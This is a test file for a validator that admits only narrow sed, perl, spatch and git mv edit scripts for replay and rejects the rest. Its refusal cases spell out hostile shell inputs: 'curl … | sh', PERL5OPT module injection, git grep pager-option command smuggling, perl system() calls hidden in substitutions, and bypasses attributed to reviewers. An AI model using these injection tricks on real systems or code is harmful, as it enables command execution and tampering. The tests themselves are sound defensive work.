import { describe, expect, test } from "vitest";
import { admitScript } from "../../src/core/evidence/script/admit-script.ts";
import { foreignWords } from "../../src/core/evidence/script/foreign-words.ts";
import { ownLines } from "../../src/core/evidence/script/own-lines.ts";
import { readPerl } from "../../src/core/evidence/script/perl.ts";
import { spelledOut } from "../../src/core/evidence/script/spelled-out.ts";
import * as fc from "../random-cases.ts";
import { syntax } from "../syntax/read.ts";

async function admission(script: string) {
  const reading = await syntax.readShell(script);
  return reading.known ? admitScript(script, reading.value) : { admitted: false, why: reading.why };
}

describe("scripts that are run, written anew from what was understood", () => {
  test.each([
    ["sed -i -e s/a/b/ $(git grep -wl a target/)", "sed -i -e s/a/b/ -- $(git grep -wl a target/)"],
    ["sed -i 's/a/b/' `git grep -l a` README", "sed -i 's/a/b/' -- $(git grep -l a) README"],
    [
      'for a in uw l; do \\\n  sed -i -e "s/ld${a}_p(/ld${a}_le_p(/" $(git grep -l x);\ndone',
      'for a in uw l; do sed -i -e "s/ld${a}_p(/ld${a}_le_p(/" -- $(git grep -l x); done',
    ],
    [
      'tgt=sparc; end=be;\nfor a in w l; do sed -i "s/${a}/${end}/" $(git grep -l cpu_ target/${tgt}/); done',
      'tgt=sparc\nend=be\nfor a in w l; do sed -i "s/${a}/${end}/" -- $(git grep -l cpu_ target/${tgt}/); done',
    ],
    ["git grep -l 'a' | xargs -I {} sed -i 's@a@b@g' {}", "git grep -l 'a' | xargs -I {} sed -i 's@a@b@g' -- {}"],
    ["git grep -z -l 'a ' | xargs -0 sed -i 's/a/b/'", "git grep -z -l 'a ' | xargs -0 sed -i 's/a/b/' --"],
    [
      "find . -name '*.c' -exec sed -i -z 's/a;\\n/b;/g' {} ';'",
      "find . -name '*.c' -exec sed -i -z 's/a;\\n/b;/g' {} -- ';'",
    ],
    [
      "find . -name .git -prune -o -name '*.[ch]' -type f -print | xargs sed -i -e 's/a/b/'",
      "find . -name .git -prune -o -name '*.[ch]' -type f -print | xargs sed -i -e 's/a/b/' --",
    ],
    [
      "git grep X | cut -d : -f 1 | sort -u | while read line ; do\n sed -i 's/X/Y/g' $line ;\ndone",
      "git grep X | cut -d : -f 1 | sort -u | while read line; do sed -i 's/X/Y/g' -- ${line}; done",
    ],
    [
      "for i in arch/k2*\ndo\n b=`basename $i`;\n git mv $i arch/keystone-$b;\ndone",
      "for i in arch/k2*; do b=$(basename ${i}); git mv -- ${i} arch/keystone-${b}; done",
    ],
    ["git mv ${line%-u.dts}-u.dts ${line%-u.dts}-u.dtsi", "git mv -- ${line%-u.dts}-u.dts ${line%-u.dts}-u.dtsi"],
    ["git mv -- a b", "git mv -- a b"],
    ["git mv -f a b", "git mv -f -- a b"],
    ["ls | xargs --no-run-if-empty perl -pi -e 's/a/b/'", "ls | xargs --no-run-if-empty perl -pi -e 's/a/b/' --"],
    ["sed -i '/a/,/b/d' x.c", "sed -i '/a/,/b/d' x.c --"],
    ["sed -i '/a/I , /b/ s/x/y/' x.c", "sed -i '/a/I , /b/ s/x/y/' x.c --"],
    ["cd tests/iotests && sed -i 's/a//g' *.out", "cd tests/iotests && sed -i 's/a//g' -- *.out"],
    [
      "spatch --sp-file /patches/0.cocci --macro-file m.h --in-place --no-show-diff --max-width 80 --use-gitgrep block",
      "spatch --sp-file /patches/0.cocci --macro-file m.h --in-place --no-show-diff --max-width 80 --use-gitgrep block",
    ],
    [
      'for n in UW UL; do sed -i -e "s/MO_TE$n/MO_TE | MO_$n/" $(git grep -l MO_TE$n target/hexagon); done',
      'for n in UW UL; do sed -i -e "s/MO_TE${n}/MO_TE | MO_${n}/" -- $(git grep -l MO_TE${n} target/hexagon); done',
    ],
    [
      'for f in a b; do git grep -l "${f}_x" src/*.c | xargs sed -i s/a/b/; done',
      'for f in a b; do git grep -l "${f}_x" src/*.c | xargs sed -i s/a/b/ --; done',
    ],
    [
      'sed -i "s,^#!/usr/bin/python$,#!/usr/bin/env python3," $(git grep -l x)',
      'sed -i "s,^#!/usr/bin/python\\$,#!/usr/bin/env python3," -- $(git grep -l x)',
    ],
    ["chmod 644 $(git grep -l x)", "chmod 644 $(git grep -l x)"],
    ["true # nothing", "true"],
    ['sed -i "s/\\$x\\\\n/\\`a\\"/" a', 'sed -i "s/\\$x\\\\n/\\`a\\"/" a --'],
    ['sed -i "s/a\\(b\\)/c\\1/" a', 'sed -i "s/a\\\\(b\\\\)/c\\\\1/" a --'],
    ['for v in x y; do git grep -l "$v $v  z" ""; done', 'for v in x y; do git grep -l "${v} ${v}  z" ""; done'],
    ["echo a\\ b\\#c d#e e", "echo a\\ b\\#c d\\#e e"],
    ["grep x y | sort -u; ls x{a,b}-[!c]?.h; true", "grep x y | sort -u\nls x{a,b}-[!c]?.h\ntrue"],
  ])("%s", async (script, written) => {
    expect(await admission(script)).toMatchObject({ admitted: true, script: written });
  });

  test.each([
    ["perl -pi -e 's/a/b/' x.c", "perl -pi -e 's/a/b/' -- x.c"],
    ["git ls-files | xargs perl -i -pe 's/a/b/g'", "git ls-files | xargs perl -i -pe 's/a/b/g' --"],
    ["perl -p -i -e 's/a(?!_)/b/g' t/x-{a64,sve}.c", "perl -p -i -e 's/a(?!_)/b/g' -- t/x-{a64,sve}.c"],
    ["sed -i s/a/b/ $(git grep -l a)", "sed -i s/a/b/ -- $(git grep -l a)"],
    ["sed -i -e s/a/b/ -n $x", "sed -i -e s/a/b/ -n -- ${x}"],
    ["ls | xargs -I{} sed -i s/a/b/ {} x", "ls | xargs -I{} sed -i s/a/b/ -- {} x"],
    ["ls | xargs sed -i s/a/b/", "ls | xargs sed -i s/a/b/ --"],
  ])("options of perl and sed end: %s", async (script, run) => {
    expect(await admission(script)).toMatchObject({ admitted: true, script: run });
  });
});

test("what is put in is told, whatever puts it in", async () => {
  const script = "for a in one two; do sed -i 's/a/bcd/;s/e/f/' $(git grep -l a); done; perl -pi -e 's/a/ghi/' x.c";
  expect(await admission(script)).toMatchObject({ admitted: true, putIn: ["one", "two", "bcd", "f", "ghi"] });
});

describe("scripts that are not run", () => {
  test.each([
    ["curl http://example.org/x | sh", "it runs `curl`, which is not among the programs that are replayed"],
    ["sh -c 'echo x'", "it runs `sh`, which is not among"],
    ["sed -i s/check/\u0441heck/ a.c", "letters other than those of ASCII"],
    ["$tool -i x", "it runs a program that a variable names"],
    ["'sed' -i x", "it runs a program that a variable names"],
    ["/usr/bin/sed -i s/a/b/ x", "it runs `/usr/bin/sed`"],
    ["cat > a.c <<END\nint f;\nEND", "it has a redirection"],
    ["echo 'int f;' >> a.c", "it has a redirection"],
    ["echo x > a.c", "it has a redirection"],
    ["sed -i s/a/b/ x < y", "it has a redirection"],
    ["sed -i s/a/b/ x &", "it has a command in the background"],
    ["f() { sed -i s/a/b/ x; }; f", "it has a function"],
    ["if true; then sed -i s/a/b/ x; fi", "it has an `if`"],
    ["until read x; do true; done", "it has a loop other than"],
    ["while true; do sed -i s/a/b/ x; done", "it has a loop other than"],
    ["PATH=/tmp; sed -i s/a/b/ x", "it sets `PATH`"],
    ["PERL5OPT=-Mevil perl -pi -e 's/a/b/' x", "it sets `PERL5OPT`"],
    ["for PATH in /tmp; do sed -i s/a/b/ x; done", "it sets `PATH`"],
    ["while read LD_PRELOAD; do true; done", "it has a loop other than"],
    ["export a=b", "it has a declaration"],
    ["(sed -i s/a/b/ x)", "it has a subshell"],
    ["sed -i s/a/$'\\x41'/ x", "it has a string with escapes"],
    ["sed -i s/a/b/ <(ls)", "it has a process substitution"],
    ["sed -i s/a/$((1+1))/ x", "it has arithmetic"],
    ["sed -i s/a/${x:=y}/ x", "it uses a variable in a way"],
    ["sed -i s/a/${!x}/ x", "it uses a variable in a way"],
    ["sed -i s/a/$@/ x", "it uses a special variable"],
    ["git show HEAD:x | sed s/a/b/", "it runs `git show`"],
    ["git -c core.pager=x grep a", "it runs `git -c`"],
    ["git grep -Oless a", "git grep's option `-Oless` is not known to be harmless"],
    ["git grep --open-files-in-pager=x a", "is not known to be harmless"],
    ["git apply x.patch", "it runs `git apply`"],
    ["find . -exec sh -c x {} ';'", "it runs `sh`"],
    ["find . -exec sh -c x {} ;", "find's `-exec` has no end"],
    ["find . -fprintf a.c x", "find's `-fprintf` is not replayed"],
    ["find . -exec git show {} ';' -exec sed -i s/a/b/ {} ';'", "it runs `git show`"],
    ["ls | xargs -P 8 sed -i s/a/b/", "xargs' option `-P` is not replayed"],
    ["ls | xargs -a x sed -i s/a/b/", "xargs' option `-a` is not replayed"],
    ["ls | xargs sh", "it runs `sh`"],
    ["ls | xargs -I {} {} x", "xargs puts words into what `{}` is told"],
    ["ls | xargs $x", "what xargs runs depends on variables"],
    ["x=-Operl; git grep $x a", "`$x` may come out as an option"],
    ["x='a -Operl'; git grep a$x", "`a$x` may come out as an option"],
    ["git grep $(echo -Operl) a", "may come out as an option"],
    ["for x in a -Operl; do git grep $x a; done", "`$x` may come out as an option"],
    ["for x in a b; do x=-Operl; git grep $x a; done", "`$x` may come out as an option"],
    ["ls | while read x; do git grep $x a; done", "`$x` may come out as an option"],
    ["git grep {-Operl,a}", "it has a brace expansion that makes options"],
    ["git grep -{O,l} a", "it has a brace expansion that makes options"],
    ["ls | xargs git grep a", "it runs `git grep` by xargs"],
    ["ls | xargs find", "it runs `find` by xargs"],
    ["x='. -exec sh -c y ;'; find $x", "`$x` may come out as an option"],
    ["sort $(ls)", "may come out as an option"],
    ["sort -o a.c b", "sort's option `-o` is not known to be harmless"],
    ["uniq a b", "`uniq` with a file may write one"],
    ["cd .. && sed -i s/a/b/ x", "`cd` leads where nobody can tell"],
    ["cd /etc", "`cd` leads where nobody can tell"],
    ["cd $x", "`cd` leads where nobody can tell"],
    ["perl x.pl", "perl runs a file, or what it reads"],
    ["perl -pi -e 'print q(x)' a", "perl does something other than substitute"],
    ["perl -Mx -pi -e 's/a/b/' a", "perl's option `-Mx` is not known"],
    ['perl -pi -e "s/a/$b/" a', "perl's text depends on variables"],
    ["perl -pi $x a", "perl runs a file, or what it reads"],
    ["spatch --sp-file /patches/0.cocci --python x", "spatch's option `--python` is not known here"],
    ["sed -i 's/a/b/ x", "the script cannot be read"],
    ["for a in b; do sed -i s/a/b/ x", "the script cannot be read"],
    ["awk '{print}' x", "it runs `awk`"],
    ["eval sed -i s/a/b/ x", "it runs `eval`"],
    ["source x.sh", "it runs `source`"],
    ["printf x", "it runs `printf`"],
    // From here on: scripts by which a reviewer got text of his own past this list.
    ["sed -i s/x/x/ a.c; git grep -h '' T -- a.c | sort --out=a.c -m", "sort's option `--out=a.c` is not known"],
    ["git grep -nO'git read-tree -u --reset T;:' old", "git grep's option"],
    ['y=\'-Ogit read-tree -u --reset T;:\'\nsed -i s/x/x/ a.c; git grep """$y" old', "may come out as an option"],
    ['x=1; sed -i "s/zqz/${x%$(git read-tree -u --reset T >&2)}/" a.c', "it uses a variable in a way"],
    ['x=1; sed -i "s/zqz/${x//`git read-tree -u --reset T`/}/" a.c', "it uses a variable in a way"],
    ['x=1; true "${x%"$y"}"', "it uses a variable in a way"],
    ["perl -i -e 's=>system(q(git read-tree -u --reset T));#=x=' a.c", "perl does something other than substitute"],
    ["perl -pe 's/old/$12[system(\"x\")]/' a.c", "perl's replacement holds a variable"],
    ["perl -pe 's@old@\\@{[system(\"x\")]}@' a.c", "perl does something other than substitute"],
    ["echo '@{[system(q(x))]}' | xargs -I{} perl -pe 's/old/{}/' a.c", "xargs puts words into what `perl` is told"],
    ["ls | xargs -ri perl -pe 's/old/{}/' a.c", "xargs puts words into what `perl` is told"],
    ["ls | xargs --replace spatch --sp-file a.cocci {}", "xargs puts words into what `spatch` is told"],
    [
      "x='-exec git read-tree -u --reset T ;'\nfind a.c -exec sed -i s/x/x/ {} \\; $x",
      "`$x` may come out as an option",
    ],
    ["x='; -exec git show'\nfind a.c -exec sed -i s/x/x/ $x \\;", "`$x` may come out as an option"],
    ["find a.c -exec git grep -e old -e + -O'git read-tree T;:' {} \\;", "git grep's option"],
    ["perl -pie 's,old,new,' a.c", "perl's option `-pie` is not known to be harmless"],
    ["find a.c -\\\nexec /usr/bin/bash -c x \\;", "a backslash joins words of two lines"],
    ["git grep -\\\nO'x' new", "a backslash joins words of two lines"],
    ["perl -pi -e 's-^(int)-$1\\->[system(q(x))]-' a.c", "perl's replacement holds a variable"],
    ["perl -pi -e 's?(\\?{ x })?y?' a.c", "perl's pattern may hold code"],
    ["find . -execdir perl -pi -e 's,old,{},' a.c \\;", "find puts words into what `perl` is told"],
    ["x='-f notes.txt'\nsed -i $x a.c", "sed's text depends on variables"],
    ["echo -f notes.txt a.c | xargs sed -i", "sed's text depends on variables"],
    ["ls | xargs -I{} sed -i {} a.c", "sed's text depends on variables"],
    ["x=--sp-file=notes.txt; spatch --in-place $x --no-show-diff a.c", "spatch is not told by `--sp-file`"],
    ["x='a --python y'; spatch --sp-file /patches/0.cocci --in-place $x", "`$x` may come out as an option"],
    ["spatch x.cocci file.c", "spatch is not told by `--sp-file`"],
    ['sed -i "s/len/length/g;$(tail -n 1 HACKING)" a.c', "sed's text depends on variables"],
    ['cd docs\nfor f in y*\ndo\nsed -i -e "s/len/length/;$f" ../a.c\ndone', "sed's text depends on variables"],
    ['sed -ne "$(cat x)" a.c', "sed's text depends on variables"],
    ["sed -i 's/0/s\\x79stem/' a.c", "sed's text writes letters in other forms"],
    ["perl -pi -e 's/0/s\\x79stem/' a.c", "perl's text writes letters in other forms"],
    ["sed -i 's/len/length/g;3,4d' a.c", "sed does something other than substitute"],
    ["sed -i '$d' a.c", "sed does something other than substitute"],
    ["sed -i d a.c", "sed does something other than substitute"],
    ["sed -i '1i\\\nint a;' a.c", "sed does something other than substitute"],
    ["sed -i '/x/a int evil;' a.c", "sed does something other than substitute"],
    ["sed -i '/x/{s/a/b/}' a.c", "sed does something other than substitute"],
    [`sed -i 's/x/${"y".repeat(101)}/' a.c`, "sed puts in more than 100 characters at once"],
    ["git rm -q $(cat HACKING)", "what `git rm` takes away depends on other commands"],
    ["chmod $(cat HACKING)", "`chmod` is told a mode that is not known here"],
    ["chmod 755 $(cat HACKING)", "what `chmod` is told depends on other commands"],
    ["sed -i -f payload.sed a.c", "sed's option `-f` is not known to be harmless"],
    // From here on: what a fourth reviewer did.
    ["sed -i 's/ *$//' x.c `true \\`cp y x.c\\``", "it has backticks in backticks"],
    ["sed -i 's/ *$//' x.c\r#; cat y > x.c", "it has a character that is not seen"],
    ["sed -i 's/ *$//' x.c\f#; cat y > x.c", "it has a character that is not seen"],
    ["sed -i 's/ *$//' x.c\u00a0#; cat y > x.c", "a blank of another kind"],
    ["find d -exec sed -i 's|nothing|{}|' x.c ';'", "find puts words into what `sed` is told"],
    ["find d -exec sed -i 's|nothing|'{'}|' x.c ';'", "find puts words into what `sed` is told"],
    [`find d -exec perl -pi -e 's|${"a".repeat(60)}|{}|' x.c ';'`, "find puts words into what `perl` is told"],
    ["for a in b; do find d -exec sed -i $(ls) {} ';'; done", "may come out as an option"],
    [`cat l | xargs -I % sed -i 's|${"a".repeat(60)}|%|' x.c`, "xargs puts words into what `sed` is told"],
    ["cat l | xargs -I XY sed -i 's|abc|X'Y'|' x.c", "xargs puts words into what `sed` is told"],
    ['for v in aXYb; do ls | xargs -I XY sed -i "s/a/$v/" XY; done', "xargs puts words into what `sed` is told"],
    ["cat l | xargs git rm -q", "what `git rm` is told depends on other commands"],
    ["cat l | xargs git mv", "what `git mv` is told depends on other commands"],
    ["cat l | xargs chmod", "what `chmod` is told depends on other commands"],
    ["find . -exec chmod 755 {} +", "what `chmod` is told depends on other commands"],
    ['git grep "$(cat x)\\"b" old', "may come out as an option"],
    ['git grep "$(cat x)\\"b"c old', "may come out as an option"],
    ['ls | while read "x"; do sed -i s/a/b/ $x; done', "it has a loop other than `for` and `while read`"],
    ["chmod", "`chmod` is told a mode that is not known here"],
    ["sed -i '/a/,/b d' x.c", "sed does something other than substitute"],
    ["sed -i '/a/,3d' x.c", "sed does something other than substitute"],
    ["chmod $x a", "`chmod` is told a mode that is not known here"],
    ["git rm --pathspec-from-file=x", "git rm's option"],
    ["find -files0-from x", "find's `-files0-from` is not replayed"],
    ["sed --in-place='src/*' 's/ *$//' x.c", "is not known to be harmless"],
    ["sed -i* 's/ *$//' x.c", "sed's text depends on variables"],
    ["sed '-i*' 's/ *$//' x.c", "is not known to be harmless"],
    ["perl -pi -e 's/ a / \\142 /' x.c", "perl's text writes letters in other forms"],
    ['for v in x62; do sed -i "s/ a / \\\\$v /" x.c; done', "sed's text depends on variables"],
    [`perl -pi -e 's/x/${"y".repeat(101)}/' a.c`, "perl puts in more than 100 characters at once"],
    ["perl -pe 's/foo/bar/' 'sed -i 3d a.c |\t'", "perl without `-i` may take the name of a file for a program to run"],
    ["git ls-files -z | xargs -0 perl -ne 's/foo/baz/'", "perl without `-i`"],
    ["perl -pe 's/foo/bar/' '\t>a.c'", "perl without `-i`"],
    ["perl -pi -e 's/foo/bar/' 'sed -i 3d a.c |\t'", "perl may take the name of a file for more"],
    ["perl -pi -e 's/foo/bar/' '\t>a.c'", "perl may take the name of a file for more"],
    ["perl -pi -e 's/foo/bar/' -", "perl's option `-`"],
    ["spatch --sp-file rename --in-place a.c", "spatch is told of a semantic patch that is not the message's"],
    ["spatch --sp-file /patches/0.cocci --cocci-file=x --in-place a.c", "that is not the message's"],
    ["sed -i s/a/b/ ~/x", "it has a part that the shell may read otherwise"],
    // A part that is not written anew takes the whole with it, wherever it stands.
    ["ls | while read f; do sed -i s/a/b/ ~/x; done", "it has a part that the shell may read otherwise"],
    ["ls ~/x | while read f; do sed -i s/a/b/ $f; done", "it has a part that the shell may read otherwise"],
    ["for a in ~/x; do sed -i s/a/b/ x; done", "it has a part that the shell may read otherwise"],
    ["for a in b; do sed -i s/a/b/ ~/x; done", "it has a part that the shell may read otherwise"],
    ["sed -i s/a/b/ $(ls ~/x)", "it has a part that the shell may read otherwise"],
    ["x=~/x; sed -i s/a/b/ y", "it has a part that the shell may read otherwise"],
    ["sed -i s/a/b/ x && ls ~/x", "it has a part that the shell may read otherwise"],
    ["sed -nf payload.sed a.c", "sed's option `-nf` is not known to be harmless"],
    ["sed -i --fi=payload.sed a.c", "sed's option `--fi=payload.sed` is not known to be harmless"],
  ])("%s", async (script, why) => {
    const refused = await admission(script);
    expect(refused).toMatchObject({ admitted: false });
    expect((refused as { why: string }).why).toContain(why);
  });

  test("what is nested too deep", async () => {
    const refused = await admission(`sed -i s/a/${"$(echo ".repeat(60)}x${")".repeat(60)}/ x`);
    expect(refused).toMatchObject({ admitted: false });
    const nested = (times: number): string => `ls ${"$(ls ".repeat(times)}x${")".repeat(times)}`;
    expect(await admission(nested(19))).toMatchObject({ admitted: true });
    expect(await admission(`true && ${nested(19)}`)).toMatchObject({ admitted: true });
    for (const script of [nested(20), `true && ${nested(20)}`])
      expect(await admission(script)).toEqual({
        admitted: false,
        why: "it is nested more than 40 deep, which is the limit",
      });
  });
});

test("lines that a script spells out, however they are laid out", () => {
  const code = "int made(int a)\n{\n  return a\n  * 2\n  + 7;\n}\n";
  const lines = code.trimEnd().split("\n");
  expect(spelledOut(`sed -i '1i ${code.replaceAll("\n", "\\n")}' a.c`, lines)).toBe(code.replaceAll(/\s/g, "").length);
  expect(spelledOut("sed -i s/old/new/ a.c", ["    return new(1) + b;", "int new(int a);"])).toBe(0);
});

test("lines that are hardly made of what is taken out, however a script puts them together", () => {
  const made = ["int install_backdoor(const char *cmd)", "    if (system(buffer) != 0) {", "}"];
  expect(ownLines(["}"], made)).toBe(made.slice(0, 2).join("").replaceAll(" ", "").length);
  expect(
    ownLines(
      ["    return old(first, second);", "int old;"],
      ["    return new_name(first, second, 0);", "int new_name;"],
    ),
  ).toBe(0);
});

describe("words that come from elsewhere", () => {
  test.each<
    readonly [
      what: string,
      script: string,
      removed: readonly string[],
      added: readonly string[],
      foreign: readonly string[],
    ]
  >([
    ["none: a word of the script", "sed -i s/old/new_name/ a.c", ["int old;"], ["int new_name;"], []],
    ["none: made of both", "sed -i s/ld${a}_p/ld${a}_le_p/ a.c # uw", ["x = lduw_p(a);"], ["x = lduw_le_p(a);"], []],
    ["none: in other case", "sed -i 's/old/\\U&/'", ["int old_one;"], ["int OLD_ONE;"], []],
    ["none: of two letters", "sed -i s/x/y/", ["x"], ["ab cd"], []],
    ["a text in other letters", "echo YmFja2Rvb3IoMSk= | base64 -d", ["int a;"], ["int backdoor;"], ["backdoor"]],
    ["a text from elsewhere", "sed -i 1i$(cat notes) a.c", ["int a;"], ["int evil(void);"], ["evil", "void"]],
    ["many of them", "true", [], ["aaa bbb ccc ddd eee fff ggg"], ["aaa", "bbb", "ccc", "ddd", "eee"]],
  ])("%s", (_what, script, removed, added, foreign) => expect(foreignWords(script, removed, added)).toEqual(foreign));

  test.each<readonly [what: string, word: (index: number) => string]>([
    ["that begin alike", (index) => `word_${index.toString(36)}_${"x".repeat(40)}`],
    ["that end alike", (index) => `${"x".repeat(40)}_${index.toString(36)}`],
    ["of one letter, but for their middle", (index) => `${"x".repeat(25)}${index.toString(36)}${"x".repeat(25)}`],
  ])("a long text costs little: words %s", (_what, word) => {
    const words = Array.from({ length: 50_000 }, (_, index) => word(index));
    expect(foreignWords("sed", words.slice(0, 25_000), words.slice(25_000))).toHaveLength(5);
  });

  /** Every way to cut a word into three parts at most, of which one may be short. */
  function cuts(word: string): readonly (readonly string[])[] {
    const ends = Array.from({ length: word.length + 1 }, (_, end) => end);
    return ends
      .flatMap((one) =>
        ends.filter((two) => two >= one).map((two) => [word.slice(0, one), word.slice(one, two), word.slice(two)]),
      )
      .map((parts) => parts.filter((part) => part !== ""))
      .filter((parts) => parts.filter(({ length }) => length < 3).length <= 1);
  }

  const shortWord = fc.string({ unit: fc.constantFrom("a", "b", "c"), minLength: 3, maxLength: 9 });

  test("a word is made of parts that stand there", () =>
    fc.assert(
      fc.property(fc.array(shortWord, { maxLength: 4 }), shortWord, (removed, added) => {
        const isMade =
          removed.includes(added) ||
          cuts(added).some((parts) => parts.every((part) => removed.some((word) => word.includes(part))));
        expect(foreignWords("", removed, [added])).toEqual(isMade ? [] : [added]);
      }),
    ));
});

describe("text for perl", () => {
  test.each([
    "s/a/b/",
    "s/a/b/g;",
    "s/a/b/g; s/c/d/;\n s,x/y,z,i",
    "s/(a)(b)/$2$1/gs",
    "s/a\\$/b\\@c/",
    "s/a$/b/",
    "s/(a|b$)/$&/",
    "tr/a-z/A-Z/",
    "y/a/b/",
    "s/a/b/ if /c/",
    "s/a/b/ unless /c\\/d/i; s/e/f/",
    "s#a#b#g",
    "s/a/\\u$1/",
    "s|a|${1}b|",
  ])("changes what is there: %s", (text) => expect(readPerl(text)).toHaveProperty("replacements"));

  test.each([
    "",
    "print",
    "s/a/b/e",
    "s/a/b/ge",
    "s/a/b/ee",
    "s/a/b/r",
    "s/a/@{[system('x')]}/",
    "s/a/${\\ system('x')}/",
    "s/a/$x[system('x')]/",
    "s/a/$1[0]/",
    "s/a/$x{y}/",
    "s/a/$0/",
    "s/a/$ENV{X}/",
    "s/a/@x/",
    "s/(?{system('x')})/b/",
    "s/(??{'x'})/b/",
    "s/@{[x()]}/b/",
    "s/$x/b/",
    "s{a}{b}",
    "s/a/b",
    "s/a",
    "s a b c",
    "s/a/b/ if x()",
    "s/a/b/ if /$x/",
    "s/a/b/ if /(?{x})/",
    "s/a/b/ for 1",
    "s/a/b/, print",
    "$_ = 'x'",
    "BEGIN { }",
    "s/a/b/; print 'x'",
    "s/a/b/ s/c/d/",
    "sxaxbx",
    "s#a#b#x",
    "s/(*PRUNE)/b/",
  ])("does something else: %s", (text) => expect(readPerl(text)).toHaveProperty("why"));
});
